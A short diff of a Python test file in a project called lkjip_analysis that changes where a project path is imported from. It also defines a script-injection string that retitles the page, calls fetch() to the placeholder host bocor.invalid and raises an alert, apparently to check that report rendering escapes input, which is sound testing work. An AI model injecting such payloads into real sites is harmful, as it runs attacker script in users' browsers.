@@ -19,7 +19,7 @@ from lkjip_analysis.building.many import overview
 from lkjip_analysis.building.many.batch import Outcome
 from lkjip_analysis.commands.cli import app
 from lkjip_analysis.pages.parts.rendering import TEMPLATES
-from lkjip_analysis.report.report import PROJECT
+from lkjip_analysis.report.home import SOURCE as PROJECT
 
 CONTOH = PROJECT / "tests" / "contoh" / "raw" / "dinas-contoh" / "2022"
 RUN = "document.title='BOCOR';fetch('http://bocor.invalid/');alert(1)"
